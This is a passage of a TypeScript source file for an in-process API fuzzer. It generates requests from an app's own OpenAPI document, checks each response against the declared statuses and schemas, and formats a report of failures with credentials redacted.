    this.ajv.addSchema(document, 'openapi')
  }

  private validator(pointer: string): ValidateFunction {
    let validate = this.validators.get(pointer)
    if (!validate) {
      validate = this.ajv.compile({ $ref: `openapi${pointer}` })
      this.validators.set(pointer, validate)
    }
    return validate
  }

  check(operation: Operation, response: LightMyRequestResponse): string | undefined {
    const status = response.statusCode
    if (status >= 500) return `server error ${status}`
    const responses = operation.node.responses ?? {}
    const key = [String(status), `${String(status)[0]}XX`, 'default'].find(
      (candidate) => candidate in responses,
    )
    if (!key) return `status ${status} is not declared (declared: ${Object.keys(responses).join(', ')})`
    const declared = follow(this.document, responses[key], `${operation.pointer}/responses/${key}`)
    const content: Record<string, JsonNode> | undefined = declared.node?.content
    const contentType = String(response.headers['content-type'] ?? '')
    const mediaType = contentType.split(';')[0]?.trim().toLowerCase() ?? ''
    if (!content) {
      if (response.rawPayload.length > 0)
        return `a ${mediaType || 'typeless'} body where response ${key} declares none`
      return undefined
    }
    if (!(mediaType in content))
      return `content type "${contentType}" where response ${key} declares ${Object.keys(content).join(', ')}`
    if (mediaType !== 'application/json') return undefined
    if (!/charset=utf-8/i.test(contentType)) return `JSON without charset=utf-8: "${contentType}"`
    let parsed: unknown
    try {
      parsed = JSON.parse(response.body)
    } catch {
      return 'a body that is not JSON'
    }
    const pointer = `${declared.pointer}/content/${escapePointer(mediaType)}/schema`
    const validate = this.validator(pointer)
    if (validate(parsed)) return undefined
    return `body outside response ${key}'s schema: ${this.ajv.errorsText(validate.errors, { separator: '; ' }).slice(0, 600)}`
  }
}

/** Percent-encodes text; a lone surrogate goes out as its WTF-8 bytes, which are not UTF-8. */
function encode(value: string): string {
  try {
    return encodeURIComponent(value)
  } catch {
    return [...value]
      .map((char) => {
        if (!/\p{Surrogate}/u.test(char)) return encodeURIComponent(char)
        const code = char.charCodeAt(0)
        return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 63), 0x80 | (code & 63)]
          .map((byte) => `%${byte.toString(16).toUpperCase()}`)
          .join('')
      })
      .join('')
  }
}

function requestOf(
  operation: Operation,
  c: Case,
  fixture: FuzzFixture,
  cookie: string | undefined,
): InjectOptions {
  const path = operation.path.replace(/\{([^}]+)\}/g, (_, name: string) => encode(c.params[name] ?? ''))
  const search = c.query.length
    ? `?${c.query.map(([name, value]) => `${encode(name)}=${encode(value)}`).join('&')}`
    : ''
  const headers: Record<string, string> = { ...c.headers }
  if (c.credential === 'bogus') headers.authorization = 'Bearer not-a-real-token-0000000000000000000000000000'
  else if (c.credential !== 'none') headers.authorization = `Bearer ${fixture.tokens[c.credential]}`
  if (operation.path.startsWith('/auth/')) {
    headers.host = fixture.host
    if (operation.method !== 'GET') headers.origin = `http://${fixture.host}`
    if (c.session && cookie) headers.cookie = cookie
  }
  if (c.body?.contentType !== undefined) headers['content-type'] = c.body.contentType
  return {
    method: operation.method,
    url: `${path}${search}`,
    headers,
    ...(c.body ? { payload: c.body.payload } : {}),
  }
}

function describeRequest(request: InjectOptions, c: Case): FuzzFailure['request'] {
  const headers: Record<string, string> = Object.fromEntries(
    Object.entries(request.headers ?? {}).map(([name, value]) => [name, String(value)]),
  )
  if (headers.authorization) headers.authorization = `Bearer <${c.credential}>`
  if (headers.cookie) headers.cookie = '<session>'
  for (const [name, value] of Object.entries(headers))
    if (value.length > 200) headers[name] = `${value.slice(0, 60)}… (${value.length} chars)`
  const payload = request.payload
  const body =
    payload === undefined
      ? undefined
      : Buffer.isBuffer(payload)
        ? `<${payload.length} bytes>`
        : String(payload).length > 400
          ? `${String(payload).slice(0, 400)}… (${String(payload).length} chars)`
          : String(payload)
  const url = String(request.url)
  return {
    method: String(request.method),
    url: url.length > 300 ? `${url.slice(0, 300)}… (${url.length} chars)` : url,
    headers,
    ...(body === undefined ? {} : { body }),
  }
}

/** Runs the fuzzer over every operation of the app's OpenAPI document. */
export async function runFuzz(
  app: FastifyInstance,
  fixture: FuzzFixture,
  options: FuzzOptions,
): Promise<FuzzReport> {
  const started = Date.now()
  const documentResponse = await app.inject({ method: 'GET', url: '/v2/openapi.json' })
  if (documentResponse.statusCode !== 200)
    throw new Error(`no OpenAPI document: ${documentResponse.statusCode}`)
  const document: JsonNode = documentResponse.json()
  const generator = new Generator(document, fixture)
  const checker = new ResponseChecker(document)
  const operations = fuzzOperations(document).filter(
    (op) => !options.only || `${op.method} ${op.path}`.includes(options.only) || op.id.includes(options.only),
  )
  const report: FuzzReport = {
    operations: operations.length,
    cases: 0,
    unsendable: 0,
    statuses: {},
    byCredential: {},
    kinds: {},
    failures: [],
    ms: 0,
  }
  for (const [index, operation] of operations.entries()) {
    const cases = fc.sample(caseArbitrary(generator, document, operation, fixture), {
      seed: operationSeed(options.seed, operation.id),
      numRuns: options.cases,
    })
    const cookie = operation.path.startsWith('/auth/') ? await fixture.newSession() : undefined
    for (const c of cases) {
      const request = requestOf(operation, c, fixture, cookie)
      let response: LightMyRequestResponse
      try {
        response = await app.inject(request)
      } catch {
        report.unsendable++
        continue
      }
      report.cases++
      report.statuses[response.statusCode] = (report.statuses[response.statusCode] ?? 0) + 1
      const counts = report.byCredential[c.credential] ?? {}
      report.byCredential[c.credential] = counts
      counts[response.statusCode] = (counts[response.statusCode] ?? 0) + 1
      const family = c.kind.split(' ').slice(0, 2).join(' ')
      report.kinds[family] = (report.kinds[family] ?? 0) + 1
      const problem = checker.check(operation, response)
      if (problem)
        report.failures.push({
          operation: `${operation.method} ${operation.path} (${operation.id})`,
          kind: c.kind,
          credential: c.credential,
          request: describeRequest(request, c),
          status: response.statusCode,
          problem,
          response: response.body.length > 500 ? `${response.body.slice(0, 500)}…` : response.body,
        })
    }
    options.onOperation?.(index + 1, operations.length, `${operation.method} ${operation.path}`)
  }
  report.ms = Date.now() - started
  return report
}

/** Failures grouped by operation, status and problem (the first request of each group as its example). */
export function groupFailures(failures: FuzzFailure[]): { count: number; example: FuzzFailure }[] {
  const groups = new Map<string, { count: number; example: FuzzFailure }>()
  for (const failure of failures) {
    const key = `${failure.operation}|${failure.status}|${failure.problem.replace(/"[^"]*"/g, '').slice(0, 120)}`
    const group = groups.get(key)
    if (group) group.count++
    else groups.set(key, { count: 1, example: failure })
  }
  return [...groups.values()]
}

/** The report as text: figures, then every failure group with one request. */
export function formatReport(report: FuzzReport, label: string): string {
  const lines = [
    `${label}: ${report.operations} operations, ${report.cases} cases in ${(report.ms / 1000).toFixed(1)} s` +
      (report.unsendable ? ` (${report.unsendable} not sendable)` : ''),
    `statuses: ${Object.entries(report.statuses)
      .sort()
      .map(([status, n]) => `${status}: ${n}`)
      .join(', ')}`,
    ...Object.entries(report.byCredential).map(
      ([credential, counts]) =>
        `  ${credential}: ${Object.entries(counts)
          .map(([status, n]) => `${status}: ${n}`)
          .join(', ')}`,
    ),
    `case kinds: ${Object.entries(report.kinds)
      .sort(([, a], [, b]) => b - a)
      .map(([kind, n]) => `${kind}: ${n}`)
      .join(', ')}`,
    `failures: ${report.failures.length}`,
  ]
  for (const { count, example } of groupFailures(report.failures)) {
    lines.push(
      '',
      `✗ ${example.operation}: ${example.status}, ${example.problem} (${count} case${count === 1 ? '' : 's'})`,
      `  case: ${example.kind}, credential ${example.credential}`,
      `  request: ${JSON.stringify(example.request)}`,
      `  response: ${example.response}`,
    )
  }
  return lines.join('\n')
}
